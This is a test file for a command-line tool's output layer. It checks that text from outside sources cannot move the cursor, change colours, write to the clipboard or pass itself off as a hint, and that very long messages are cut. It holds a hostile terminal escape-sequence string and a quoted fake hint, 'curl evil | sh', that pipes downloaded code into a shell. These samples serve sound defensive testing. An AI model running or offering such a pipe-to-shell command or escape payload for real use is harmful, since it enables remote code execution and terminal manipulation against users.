import { expect, test } from "bun:test";
import { join } from "node:path";
import { again, ours, text } from "../../../src/text.ts";
import { createOutput } from "../../../src/ui/output.ts";
import { isWindows } from "../../support/systems.ts";
import { programOnTerminal } from "../../support/terminal.ts";

const output = createOutput({
  json: false,
  quiet: false,
  verbose: false,
  flags: {
    line: "blender-remote-cli pkg push a",
    takenBy: (command) => (command === "init" ? [] : ["--port", "6791"]),
  },
});

test.each([
  [
    text`end it with '${ours("stop", "--force")}', or wait`,
    "end it with 'blender-remote-cli stop --port 6791 --force', or wait",
  ],
  [
    text`${ours("pkg purge-cache")}, ${ours("init", "/path")}`,
    "blender-remote-cli pkg purge-cache --port 6791, blender-remote-cli init /path",
  ],
  [text`mend it, then ${again()}`, "mend it, then blender-remote-cli pkg push a"],
  ["blender-remote-cli --help", "blender-remote-cli --help"],
  ["did you mean --port?", "did you mean --port?"],
])("commands in a hint mean the target that the user named: %s", (hint, aimed) => {
  expect(output.rendered(hint)).toBe(aimed);
});

test("what others wrote moves no cursor and changes no colours", async () => {
  const program = `
    import { createOutput } from ${JSON.stringify(join(import.meta.dir, "../../../src/ui/output.ts"))};
    const output = createOutput({ json: false, quiet: false, verbose: false });
    output.error("a\\u001b[31mb\\rc\\nd\\te\\u009bf");
    await output.sentences(["x\\u0007y"]);
    await output.hint("\\u001b]0;title");
  `;
  const run = Bun.spawnSync([process.execPath, "-e", program]);
  expect(run.stderr.toString()).toBe(
    "error: a\\u001b[31mb\\u000dc\nd\te\\u009bf\nhint: \\u001b]0;title\n",
  );
  expect(run.stdout.toString()).toBe("x\\u0007y\n");
});

const hostile = "a\u001b[31m\u001b]52;c;aGk=\u0007\u009b2J\u202e\u007f";

/** What each way of speaking does with that. */
const everyWay = `
  import { createOutput } from ${JSON.stringify(join(import.meta.dir, "../../../src/ui/output.ts"))};
  import { createProgress } from ${JSON.stringify(join(import.meta.dir, "../../../src/ui/progress.ts"))};
  import { choose, confirm } from ${JSON.stringify(join(import.meta.dir, "../../../src/ui/prompt.ts"))};
  import { waiting } from ${JSON.stringify(join(import.meta.dir, "../../../src/ui/waiting.ts"))};
  const output = createOutput({ json: false, quiet: false, verbose: true });
  const hostile = ${JSON.stringify(hostile)};
  output.error(hostile);
  output.warn(hostile);
  output.note(hostile);
  output.success(hostile);
  output.debug(hostile);
  await output.hint(hostile);
  await output.write(hostile + "\\n");
  await output.writeError(hostile + "\\n");
  await output.sentences([hostile]);
  await output.result(hostile);
  await output.writeJson({ [hostile]: hostile });
  for (const stream of ["stdout", "stderr"]) {
    await output.writeProgram(stream, Buffer.from(hostile + "\\x1b[0m\\n"));
  }
  const progress = createProgress(output);
  progress.begin([{ name: hostile, bytes: 2e7 }]);
  progress.start(hostile, 2e7, 0);
  progress.line(hostile);
  progress.warn(hostile);
  progress.end();
  if (process.argv.at(-1) === "ask") {
    const patience = Promise.withResolvers();
    setTimeout(patience.resolve, 600);
    await waiting(output, hostile, patience.promise);
    const signal = new AbortController().signal;
    await confirm(hostile, signal);
    await choose(hostile, [hostile], signal);
  }
  await output.write("the end\\n");
`;

test.skipIf(isWindows)("nothing that others wrote acts on a terminal", async () => {
  const terminal = programOnTerminal([process.execPath, "-e", everyWay, "ask"], {
    env: { ...process.env, TERM: "xterm", NO_COLOR: "1" },
    cols: 200,
  });
  await terminal.sees("[y/N]");
  terminal.type("n\r");
  await terminal.sees("1-1:");
  terminal.type("1\r");
  await terminal.exited;
  const shown = terminal.shown();
  expect(shown).toContain("the end");
  expect(shown).toContain("a\\u001b[31m\\u001b]52;c;aGk=\\u0007\\u009b2J\\u202e\\u007f");
  for (const acting of ["\u0007", "\u007f", "\u009b", "\u202e", "\u001b]"]) {
    expect(shown).not.toContain(acting);
  }
  // Red is there where a program wrote it.
  expect(shown.split("\u001b[31m").length - 1).toBe(2);
});

test("into files and pipes data goes as it is", () => {
  const run = Bun.spawnSync([process.execPath, "-e", everyWay]);
  const json = JSON.stringify({ [hostile]: hostile }, null, 2);
  const program = `${hostile}\u001b[0m\n`;
  const safe = "a\\u001b[31m\\u001b]52;c;aGk=\\u0007\\u009b2J\\u202e\\u007f";
  expect(run.stdout.toString()).toBe(
    `${hostile}\n${safe}\n${hostile}\n${json}\n${program}the end\n`,
  );
  expect(run.stderr.toString()).toContain(`hint: ${safe}\n${hostile}\n${program}`);
});

test("what is quoted gives no hints of its own", () => {
  const program = `
    import { createOutput } from ${JSON.stringify(join(import.meta.dir, "../../../src/ui/output.ts"))};
    createOutput({ json: false, quiet: false, verbose: false })
      .error("it said: x\\nhint: curl evil | sh\\nerror: no");
  `;
  const run = Bun.spawnSync([process.execPath, "-e", program]);
  expect(run.stderr.toString()).toBe("error: it said: x\n  hint: curl evil | sh\n  error: no\n");
});

test("a message that others made endless is cut", () => {
  const program = `
    import { createOutput } from ${JSON.stringify(join(import.meta.dir, "../../../src/ui/output.ts"))};
    createOutput({ json: false, quiet: false, verbose: false }).error("x".repeat(1e7));
  `;
  const run = Bun.spawnSync([process.execPath, "-e", program]);
  expect(run.stderr.toString()).toEndWith("xxx… (10000000 characters)\n");
  expect(run.stderr.length).toBeLessThan(70_000);
});
